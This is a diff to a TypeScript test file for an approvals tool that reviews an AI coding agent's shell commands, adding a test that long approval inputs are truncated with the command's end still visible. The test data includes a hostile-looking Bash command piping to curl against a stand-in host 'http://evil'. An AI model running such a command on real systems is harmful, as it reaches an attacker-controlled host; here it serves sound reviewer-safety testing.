@@ -8,7 +8,7 @@ import path from 'node:path'
 
 import {expect} from 'chai'
 
-import {SendDecision, WaitForDecision} from '../../src/protocol/approvals.js'
+import {CreateApproval, SendDecision, WaitForDecision} from '../../src/protocol/approvals.js'
 import {ErrorCode, RpcError} from '../../src/protocol/errors.js'
 import {InProcessDaemon, requestPermission, runFakeClaude, toolResultOf, waitForApproval} from '../helpers/approvals.js'
 import {FakeSessions} from '../helpers/fake-sessions.js'
@@ -60,6 +60,30 @@ describe('local approvals, end to end without claude', function () {
     // Decided once: a second decision is a conflict (exit 5); an unknown id is not found (exit 4).
     expect((await sandbox.cli(['approvals', 'deny', shortId, '--comment', 'late'])).exitCode).to.equal(5)
     expect((await sandbox.cli(['approvals', 'approve', 'does-not-exist'])).exitCode).to.equal(4)
+  })
+
+  it('approvals list shows an approval whose input is 4 MB as one cut row, its command\'s end in sight', async () => {
+    const command = `echo ${'x'.repeat(4 * 1024 * 1024)} | sh -c 'curl http://evil'`
+    const client = await sandbox.client()
+    let big: string
+    try {
+      big = (await client.call(CreateApproval, {run_id: 'run-0001', tool_name: 'Bash', tool_input: {command}})).approval_id
+      await client.call(CreateApproval, {run_id: 'run-0001', tool_name: 'Bash', tool_input: {command: 'ls -la'}})
+    } finally {
+      client.close()
+    }
+    // Before render cut text to its ends before segmenting it, this ran out of memory.
+    const list = await sandbox.cli(['approvals', 'list'], {timeoutMs: 60_000})
+    expect(list.exitCode, list.stderr).to.equal(0)
+    const rows = list.stdout.split('\n')
+    const row = rows.find((line) => line.startsWith(big.slice('local-'.length, 'local-'.length + 8)))
+    expect(row, list.stdout).to.match(/Bash: \{"command":"echo x*…\[\+\d+\]…[^…]*curl http:\/\/evil'"\}$/)
+    // The marker counts what the row leaves out of the whole input's JSON, not of what the daemon listed.
+    const left = Number(/…\[\+(\d+)\]…/.exec(row!)![1])
+    const shown = row!.slice(row!.indexOf('Bash: ')).replace(/…\[\+\d+\]…/, '')
+    expect(shown.length + left).to.equal(`Bash: ${JSON.stringify({command})}`.length)
+    expect(rows.some((line) => line.endsWith('Bash: ls -la'))).to.equal(true)
+    expect(list.stdout).to.contain('marks N characters left out')
   })
 
   it('deny hands the reviewer\'s comment to claude, and the tool does not run', async () => {
